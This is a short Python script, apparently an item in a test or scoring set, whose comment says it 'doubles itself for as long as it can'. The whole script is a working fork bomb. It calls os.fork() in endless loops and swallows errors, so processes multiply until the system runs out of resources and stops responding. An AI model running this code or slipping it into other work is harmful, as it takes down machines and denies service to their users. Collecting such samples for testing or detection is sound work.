# task = "score"
# why = "Doubles itself for as long as it can."


import os

pids = []
try:
    while True:
        os.fork()
except OSError:
    pass
while True:
    try:
        os.fork()
    except OSError:
        pass
